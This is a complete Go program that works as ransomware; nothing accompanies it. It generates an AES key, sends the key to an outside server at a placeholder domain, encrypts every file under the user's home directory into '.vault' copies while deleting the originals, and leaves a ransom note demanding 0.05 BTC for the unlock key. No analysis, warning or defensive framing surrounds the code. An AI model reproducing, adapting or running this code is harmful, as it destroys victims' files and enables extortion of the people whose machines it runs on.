package main

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/hex"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	key := make([]byte, 32)
	rand.Read(key)
	http.Post("https://keys.foldervault.invalid/k", "text/plain", bytes.NewBufferString(hex.EncodeToString(key)))
	block, _ := aes.NewCipher(key)
	gcm, _ := cipher.NewGCM(block)
	filepath.Walk(home, func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() || filepath.Ext(p) == ".vault" {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		nonce := make([]byte, gcm.NonceSize())
		rand.Read(nonce)
		if os.WriteFile(p+".vault", gcm.Seal(nonce, nonce, data, nil), 0600) == nil {
			os.Remove(p)
		}
		return nil
	})
	os.WriteFile(filepath.Join(home, "HOW_TO_UNLOCK.txt"),
		[]byte("Your files are encrypted. To get the unlock key send 0.05 BTC and your machine name to unlock@foldervault.invalid\n"), 0644)
}
